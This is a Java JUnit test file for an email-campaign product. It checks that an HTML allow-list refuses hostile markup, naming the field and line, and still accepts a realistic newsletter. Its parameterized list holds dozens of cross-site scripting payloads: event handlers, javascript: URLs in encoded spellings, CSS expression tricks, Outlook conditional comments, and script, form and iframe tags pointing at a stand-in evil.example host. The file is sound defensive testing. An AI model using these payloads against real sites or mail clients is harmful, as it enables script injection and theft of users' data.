package dev.tidings.campaign;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tidings.InvalidInputException;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.node.ObjectNode;

/**
 * Campaign HTML against the allow-list, through the same compile every create, replace and variant
 * goes through: each hostile spelling is refused with the field and its line, real newsletters pass.
 */
class EmailHtmlTest {
  private static CampaignDefinition withHtml(String html) {
    ObjectNode json = Fixtures.json();
    json.put("html", html);
    return CampaignJson.fromJson(json);
  }

  private static InvalidInputException refused(CampaignDefinition definition) {
    try {
      CampaignTemplates.compileVariants(definition);
    } catch (InvalidInputException e) {
      return e;
    }
    throw new AssertionError("the templates were accepted");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // event handlers, in any case and spelling
        "<img src=\"https://i.example/a.png\" onerror=\"alert(1)\">",
        "<IMG SRC=\"https://i.example/a.png\" OnError=alert(1)>",
        "<a href=\"https://shop.example\" onclick='steal()'>x</a>",
        "<body onload=\"go()\"><p>x</p></body>",
        "<div/onmouseover=\"go()\">x</div>",
        "<p oNfOcUs=go() tabindex=1>x</p>",
        "<table><tr><td onpointerenter=go()>x</td></tr></table>",
        // elements an email does not carry
        "<script>alert(1)</script>",
        "<ScRiPt src=\"https://evil.example/x.js\"></ScRiPt>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
        "<form action=\"https://evil.example\"><input name=\"card\"><button>Pay</button></form>",
        "<button formaction=\"https://evil.example\">x</button>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)></svg>",
        "<math><mtext><a href=\"https://x.example\">x</a></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        // script URLs in every spelling
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<img srcset=\"https://i.example/a.png 1x, javascript:alert(1) 2x\">",
        "<a href=\"//evil.example\">x</a>",
        // styles
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background:url(&quot;j\\61vascript:alert(1)&quot;)\">x</div>",
        "<div style=\"background:url('jav/**/ascript:alert(1)')\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"width:ex\\70ression(alert(1))\">x</div>",
        "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>@import 'javascript:alert(1)';</style>",
        // what Outlook reads inside conditional comments
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<!--[if mso]><v:rect href=\"javascript:alert(1)\"></v:rect><![endif]-->",
        "<!--[if mso]><v:rect onclick=\"alert(1)\"></v:rect><![endif]-->",
        // variables where data would become markup
        "<a {{subscriber.attributes}} href=\"https://shop.example\">x</a>",
        "<table><tr><td width={{subscriber.width}}>x</td></tr></table>",
        "<div style=\"color:{{subscriber.color}}\">x</div>",
        "<{{subscriber.tag}} src=\"https://i.example/a.png\">",
        "<a href=\"{{subscriber.site}}\">x</a>",
        "<style>p{color:{{subscriber.color}}}</style>"
      })
  void each_hostile_spelling_is_refused_naming_html_and_its_line(String hostile) {
    var problems =
        refused(withHtml("<p>Hello</p>\n<div>\n" + hostile + "\n</div>")).problems();
    assertThat(problems)
        .isNotEmpty()
        .allSatisfy(problem -> assertThat(problem).startsWith("html: line ").contains("refused"));
    assertThat(problems).anySatisfy(problem -> assertThat(problem).startsWith("html: line 3: "));
  }

  @Test
  void a_triple_mustache_in_an_attribute_or_a_tag_is_refused() {
    assertThat(refused(withHtml("<a href=\"{{{subscriber.site}}}\">x</a>")).problems())
        .singleElement()
        .asString()
        .startsWith("html: triple mustaches");
    assertThat(refused(withHtml("<a {{{subscriber.attributes}}}>x</a>")).problems())
        .singleElement()
        .asString()
        .startsWith("html: triple mustaches");
  }

  @Test
  void a_variants_html_is_refused_naming_the_variant_and_the_line() throws Exception {
    ObjectNode json = Fixtures.json();
    var variants = json.putObject("experiment")
        .put("allocation", "ab")
        .put("metric", "human_open")
        .putArray("variants");
    variants.addObject().put("name", "A");
    variants.addObject().put("name", "B").put("html", "<p>B</p>\n<img src=x OnError=alert(1)>");
    assertThat(refused(CampaignJson.fromJson(json)).problems())
        .anySatisfy(problem -> assertThat(problem).startsWith("variant B: html: line 2: "));
  }

  @Test
  void a_realistic_newsletter_is_accepted() throws IOException {
    String html;
    try (InputStream in = EmailHtmlTest.class.getResourceAsStream("/campaign/newsletter.html")) {
      html = new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
    var compiled = CampaignTemplates.compile(withHtml(html));
    assertThat(compiled.htmlPlacesSlots()).isTrue();
    assertThat(compiled.htmlLinksUnsubscribe()).isTrue();
  }
}
